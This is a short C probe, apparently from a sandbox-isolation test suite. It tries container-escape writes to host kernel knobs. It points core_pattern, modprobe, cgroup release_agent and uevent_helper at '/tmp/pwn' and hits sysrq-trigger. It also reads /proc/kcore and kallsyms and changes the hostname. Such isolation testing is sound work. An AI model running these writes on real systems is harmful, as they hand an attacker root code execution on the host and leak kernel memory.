// Host kernel knobs through /proc and /sys: core_pattern (a pipe to a host
// program is root code execution on the host), sysrq-trigger, hostname,
// kcore, cgroup release_agent. The driver checks the host values after.
#include "attack.h"

static void try_write(const char* label, const char* path, const char* data) {
  long fd = step(label, RAW4(SYS_openat, AT_FDCWD, path, O_WRONLY | O_TRUNC, 0));
  if (fd >= 0) {
    char l2[128];
    snprintf(l2, sizeof l2, "%s_write", label);
    step(l2, RAW3(SYS_write, fd, data, strlen(data)));
    RAW1(SYS_close, fd);
  }
}

int main(void) {
  announce();
  try_write("core_pattern", "/proc/sys/kernel/core_pattern", "|/tmp/pwn");
  try_write("sysrq_trigger", "/proc/sysrq-trigger", "h");
  try_write("proc_hostname", "/proc/sys/kernel/hostname", "pwned");
  try_write("modprobe", "/proc/sys/kernel/modprobe", "/tmp/pwn");
  try_write("release_agent", "/sys/fs/cgroup/release_agent", "/tmp/pwn");
  try_write("uevent_helper", "/sys/kernel/uevent_helper", "/tmp/pwn");
  try_read("kcore", "/proc/kcore");
  try_read("kallsyms", "/proc/kallsyms");
  step("sethostname", RAW2(SYS_sethostname, "pwned", 5));
  step("setdomainname", RAW2(SYS_setdomainname, "pwned", 5));
  return done();
}
